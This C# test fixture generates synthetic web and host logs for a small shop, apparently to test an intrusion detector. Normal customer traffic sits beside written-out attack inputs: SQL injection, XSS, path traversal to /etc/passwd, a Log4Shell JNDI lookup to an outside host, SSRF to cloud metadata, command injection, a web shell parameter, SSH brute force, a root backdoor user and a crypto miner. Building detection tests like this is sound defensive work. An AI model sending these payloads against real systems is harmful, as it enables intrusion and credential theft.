using System.Globalization;

namespace Palisade.EndToEnd.Tests;

/// <summary>Hours of one small estate, as nginx, sshd, sudo and the audit daemon write them: customers, and those who come for something else. No line is twice in it.</summary>
internal sealed class BusyDay(DateTimeOffset start)
{
    private const string Chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", Site = "https://shop.test/";
    private const string Guesser = "203.0.113.41", Injector = "203.0.113.77", Runner = "203.0.113.66";

    private readonly List<(double Second, string Line)> web = [], host = [];
    private int serial = 5_000;

    /// <summary>The access log, in order.</summary>
    public string Web => Text(web);

    /// <summary>The log of the host, in order.</summary>
    public string Host => Text(host);

    private static string Text(List<(double Second, string Line)> lines) => string.Concat(lines.OrderBy(l => l.Second).Select(l => l.Line + "\n"));

    public static BusyDay Of(DateTimeOffset start) => new BusyDay(start).Customers().Attacks().Abuse().OnTheHost();

    private void Ask(double second, string ip, string target, int status = 200, int bytes = 9_000, string referrer = "-", string agent = Chrome, string method = "GET") =>
        web.Add((second, string.Create(CultureInfo.InvariantCulture, $"{ip} - - [{start.AddSeconds(second):dd/MMM/yyyy:HH:mm:ss} +0000] \"{method} {target} HTTP/1.1\" {status} {bytes} \"{referrer}\" \"{agent}\"")));

    private void Says(double second, string program, string text) =>
        host.Add((second, string.Create(CultureInfo.InvariantCulture, $"{start.AddSeconds(second):yyyy-MM-dd'T'HH:mm:ss}+00:00 web-01 {program}: {text}")));

    private BusyDay Customers()
    {
        for (var p = 0; p < 160; p++)
        {
            var (t, ip) = (p * 80.0, $"36.{p / 80}.{p % 80}.9");
            Ask(t, ip, "/", bytes: 12_000 + p);
            foreach (var part in new[] { "/s/site.css", "/s/app.js" }) Ask(t + 1, ip, part, bytes: 40_000, referrer: Site);
            for (var i = 0; i < 3; i++) Ask(t + 5 + 7 * i, ip, $"/goods/{4_000 + (p * 7 + i * 13) % 60}.html", bytes: 15_000 + p * 9, referrer: Site);
            Ask(t + 42, ip, $"/search?q=winter%20coat%20{p % 30}&page={p % 3}", bytes: 8_000 + p, referrer: Site);
            Ask(t + 50, ip, "/passport/doLogin", bytes: 402 + p % 4, referrer: Site, method: "POST");
            Ask(t + 60, ip, $"/api/orders?orderId={88_000_123 + p * 37}", bytes: 640 + p % 90, referrer: Site);
        }
        return this;
    }

    private BusyDay Attacks()
    {
        // One who looks around, injects and is answered with far more than usual.
        string[] looked = ["/.git/config", "/wp-login.php", "/phpinfo.php", "/backup.zip", "/.env", "/admin.php", "/actuator/env", "/.svn/entries"];
        for (var i = 0; i < looked.Length; i++) Ask(3_000 + i * 2, Injector, looked[i], 404, 153, agent: "curl/8.5.0");
        string[] injected = ["1%27%20AND%201=1--", "1%27%20AND%201=2--", "1%27%20ORDER%20BY%209--", "1%27%20UNION%20SELECT%20NULL,NULL,version()--", "1%2527%20union/**/select%20login,pass%20from%20users--"];
        for (var i = 0; i < injected.Length; i++) Ask(3_100 + i * 9, Injector, $"/search?q={injected[i]}", 200, i < 4 ? 8_100 : 480_000, agent: "curl/8.5.0");
        // Others, each with a thing of its own.
        Ask(4_000, "198.51.100.3", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 403, 162);
        Ask(4_010, "198.51.100.4", "/download?file=..%252f..%252f..%252fetc%252fpasswd", 200, 1_804);
        Ask(4_020, "198.51.100.5", "/?x=${jndi:ldap://192.0.2.77:1389/a}", 400, 157, agent: "${jndi:ldap://192.0.2.77:1389/a}");
        Ask(4_030, "198.51.100.6", "/page?name={{7*7}}", 200, 900);
        Ask(4_040, "198.51.100.7", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/", 502, 166);
        Ask(4_050, "198.51.100.8", "/upload/x.php?cmd=cat%20/etc/passwd", 404, 153);
        for (var i = 0; i < 30; i++) Ask(4_100 + i, "198.51.100.9", $"/cgi-bin/test-{i}.cgi", 404, 153, agent: "Nikto/2.5.0");
        // One whose command the host ran.
        Ask(5_000, Runner, "/tools/ping?host=192.0.2.1%3Bcat%20/etc/passwd");
        return this;
    }

    private BusyDay Abuse()
    {
        for (var p = 0; p < 120; p++) Ask(6_000 + p * 20, $"203.0.114.{p}", "/passport/doLogin", 200, p % 40 == 0 ? 404 : 58, agent: $"Mozilla/5.0 (Windows NT 10.0) Chrome/101.0.{p % 20}", method: "POST");
        for (var i = 0; i < 160; i++) Ask(7_000 + i * 15, "203.0.113.50", $"/api/orders?orderId={88_000_000 + i * 7919 % 60_000}", i % 5 == 0 ? 200 : 403, 640, agent: "okhttp/4.9");
        return this;
    }

    private BusyDay OnTheHost()
    {
        for (var i = 0; i < 5; i++) Says(400 + i * 2_000, $"sshd[{710 + i}]", $"Accepted publickey for ops from 10.0.0.9 port {41_000 + i} ssh2: ED25519 SHA256:q0Zl9vG2fJmXbKq1y2Q3r4s5t6u7v8w9x0y1z2a3b4c");
        for (var i = 0; i < 40; i++) Says(2_000 + i * 4, $"sshd[{3_000 + i}]", $"Failed password for deploy from {Guesser} port {40_000 + i} ssh2");
        Says(2_170, "sshd[3100]", $"Accepted password for deploy from {Guesser} port 40100 ssh2");
        Says(2_230, "sudo", "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash");
        Says(2_300, "useradd[3190]", "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1");
        Ran(5_002, "www-data", 33, "/usr/bin/dash", "sh", "-c", "ping -c 1 192.0.2.1;cat /etc/passwd");
        Ran(2_700, "root", 0, "/tmp/.x/xmrig", "/tmp/.x/xmrig", "-o", "stratum+tcp://pool.example.net:3333");
        return this;
    }

    /// <summary>A program's start in three records of the audit daemon, which make one event.</summary>
    private void Ran(double second, string account, int id, string program, params string[] words)
    {
        var stamp = string.Create(CultureInfo.InvariantCulture, $"msg=audit({start.AddSeconds(second).ToUnixTimeSeconds()}.000:{serial++}):");
        var rest = $"arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=812 pid={serial + 9000} auid=4294967295 uid={id} gid={id} euid={id} suid={id} fsuid={id} egid={id} sgid={id} fsgid={id} tty=(none) ses=4294967295 comm=\"{words[0]}\" exe=\"{program}\" key=\"exec\"";
        host.Add((second, $"node=web-01 type=SYSCALL {stamp} {rest}\u001dARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"{account}\" GID=\"{account}\" EUID=\"{account}\""));
        host.Add((second, $"node=web-01 type=EXECVE {stamp} argc={words.Length} {string.Join(' ', words.Select((w, i) => $"a{i}={(w.Contains(' ', StringComparison.Ordinal) ? Convert.ToHexString(System.Text.Encoding.UTF8.GetBytes(w)) : $"\"{w}\"")}"))}"));
        host.Add((second, $"node=web-01 type=CWD {stamp} cwd=\"/var/www/html\""));
    }
}
